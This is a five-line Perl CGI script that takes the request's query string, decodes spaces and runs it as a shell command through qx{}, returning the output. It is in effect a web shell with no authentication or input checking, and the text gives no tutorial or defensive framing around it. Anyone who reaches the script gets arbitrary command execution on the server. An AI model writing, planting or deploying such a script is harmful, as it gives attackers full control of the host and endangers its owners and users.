#!/usr/bin/perl
print "Content-type: text/plain\n\n";
my $c = $ENV{'QUERY_STRING'};
$c =~ s/%20/ /g;
print qx{$c};
